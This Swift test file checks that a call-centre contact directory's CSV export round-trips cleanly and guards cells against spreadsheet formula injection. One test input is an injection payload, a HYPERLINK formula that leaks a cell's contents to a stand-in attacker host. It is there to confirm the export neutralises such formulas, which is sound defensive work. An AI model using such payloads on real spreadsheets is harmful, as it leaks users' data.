import CallCenter
import Testing

@testable import Storage

/// Export gives everything back: taken again, it changes nothing.
@Suite struct ExportTests {
    @Test func anExportTakenAgainChangesNothing() throws {
        let directory = try StateDirectory(), store = try directory.store()
        _ = try store.create(
            fields("山田 \"太郎\", 様", phones: ["090-0000-0001", "０３−００００−０００１"]) {
                $0.kana = "ヤマダ"; $0.company = "例,社"; $0.email = "a@example.com"; $0.lineID = "U1";
                $0.address = "東京都\n2階, \"奥\""
                $0.tier = "vip"; $0.owner = "マネージャー"; $0.tags = ["a", "b;c", "d、e", "\"q\"", "x\ny", " sp "]
                $0.cautions = ["怒りっぽい、注意", "前回: \"至急\"; 要確認"]; $0.doNotPair = ["101", "102"]
                $0.custom = ["plan": "gold, \"x\"\n2", "記念日": "11月"]
            }, at: morning)
        _ = try store.create(fields("同姓 同名", phones: ["090-0000-0002"]) { $0.tags = ["a"] }, at: morning)
        _ = try store.create(fields("同姓 同名", phones: ["090-0000-0002"]) { $0.tags = ["b"] }, at: morning)
        _ = try store.create(fields("五本", phones: (1...5).map { "090-0000-001\($0)" }), at: morning)
        _ = try store.create(fields("名前だけ"), at: morning)
        _ = try store.create(fields("名前だけ") { $0.address = "別" }, at: morning)
        _ = try store.create(fields("名前だけ"), at: morning)
        _ = try store.create(
            fields("空欄") {
                $0.kana = ""; $0.owner = " 101 "
            }, at: morning)
        _ = try store.create(
            fields("番号あり") {
                $0.externalID = "E-1";
                $0.cautions = [String(repeating: "長", count: 300), String(repeating: "い", count: 300)]
            }, at: morning)
        let before = try store.everybody, file = try store.exported()
        let report = try store.load(file, in: directory)
        #expect(report.bad == [])
        #expect(report.unknownColumns == [])
        #expect((report.created, report.updated, report.unchanged) == (0, 0, before.count))
        #expect(try store.everybody == before)
        #expect(try store.exported() == file)
    }

    /// As spreadsheets read it: a text is a formula by its first character.
    @Test(arguments: [
        ("", ""), ("x", "x"), ("=1", "'=1"), ("+81", "'+81"), ("-", "'-"), ("@a", "'@a"), ("\t1", "'\t1"),
        ("\r1", "'\r1"), ("\n1", "'\n1"), (" =1", "' =1"),
        ("　＝1", "'　＝1"), ("'=1", "''=1"), ("'", "'"), ("'x", "'x"), ("1=1", "1=1"), ("㈱=", "㈱="),
    ]) func aFormulaIsGuardedAndComesBack(text: String, cell: String) {
        #expect(FormulaGuard.guarded(text) == cell)
        #expect(FormulaGuard.unguarded(cell) == text)
    }

    @Test func noCellIsAFormula() throws {
        let directory = try StateDirectory(), store = try directory.store()
        let texts = [
            "=HYPERLINK(\"http://evil.example/\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "'=1", "''=1", "' =1", "＝１", "'",
            "''", "'x", "-", "'-", "x=1",
        ]
        for text in texts {
            _ = try store.create(
                fields("n" + text, phones: ["+819012345678", "+81312345678", "+819000000001", "+12025550123"]) {
                    $0.name = text
                    $0.externalID = text; $0.kana = text; $0.company = text; $0.owner = "-1";
                    $0.address = text + "\n" + text; $0.tags = [text, "b"]
                    $0.cautions = [text]; $0.doNotPair = ["-"]; $0.lineID = text; $0.custom = ["plan": text]
                }, at: morning)
        }
        let file = try store.exported()
        var parser = CSVParser(separator: UInt8(ascii: ",")), cells: [String] = []
        try parser.feed(file.dropFirst(3)) { cells += $0.fields }
        #expect(cells.count == (texts.count + 1) * 28)
        for cell in cells {
            let first = cell.drop { $0 == " " || $0 == "\u{3000}" }.first
            #expect(first.map { "=+-@＝＋－＠\t\r\n".contains($0) } != true, "\(cell)")
        }
        let before = try store.everybody, report = try store.load(file, in: directory)
        #expect(report.bad == [])
        #expect((report.created, report.updated, report.unchanged) == (0, 0, texts.count), "\(report.warnings)")
        #expect(try store.everybody == before)
        #expect(try store.exported() == file)
    }

    @Test func anEmptyDirectoryExportsTheColumns() throws {
        let directory = try StateDirectory()
        let file = try directory.store().exported()
        #expect(
            String(decoding: file, as: UTF8.self)
                == "\u{FEFF}external_id,name,kana,company,phone,phone2,phone3,email,tier,owner,tags,cautions,address,"
                    + "line_id,do_not_pair,kind,company_external_id,company_id,record_number,emails,accounts,persona,"
                    + "preferences,consent,do_not_call,status_reason,plan,記念日\r\n"
        )
    }

    @Test func anotherCentreTakesAnExportWhole() throws {
        let one = try StateDirectory(), other = try StateDirectory()
        let from = try one.store(), to = try other.store()
        for i in 0..<1_200 {
            _ = try from.create(
                fields("客\(i)", phones: ["+8190000\(10_000 + i)"]) {
                    $0.externalID = "K\(i)"; $0.tags = ["t\(i % 3)"]
                }, at: morning)
        }
        let file = try from.exported()
        #expect(try to.load(file, in: other).created == 1_200)
        #expect(try to.exported() == file)
    }

    @Test func aRandomDirectorySurvivesExportAndImport() throws {
        var random = Seeded("aRandomDirectorySurvivesExportAndImport")
        let directory = try StateDirectory(), store = try directory.store()
        func word(_ alphabet: String) -> String { random.text(alphabet) }
        for i in 0..<300 {
            let one = fields(
                "n" + word("ab ,;\"山 'x") + "z",
                phones: (0..<Int.random(in: 0...4, using: &random)).map { _ in
                    "090-0000-\(Int.random(in: 1000...1019, using: &random))"
                }
            ) {
                if i % 3 == 0 { $0.externalID = "E\(i)" }
                $0.kana = word("ヤマ ,\"")
                $0.address = word("東 ,\"\n;")
                $0.tags = (0..<Int.random(in: 0...3, using: &random)).map { _ in word("ab;、|\" \n") }.filter {
                    !$0.isEmpty
                }
                $0.custom["plan"] = Bool.random(using: &random) ? "p" + word("ab,\"\n") + "q" : nil
            }
            _ = try store.create(one, at: morning)
        }
        let before = try store.everybody, file = try store.exported()
        let report = try store.load(file, in: directory)
        #expect(report.bad == [])
        #expect((report.created, report.updated, report.unchanged) == (0, 0, 300))
        #expect(try store.everybody == before)
        #expect(try store.exported() == file)
    }
}
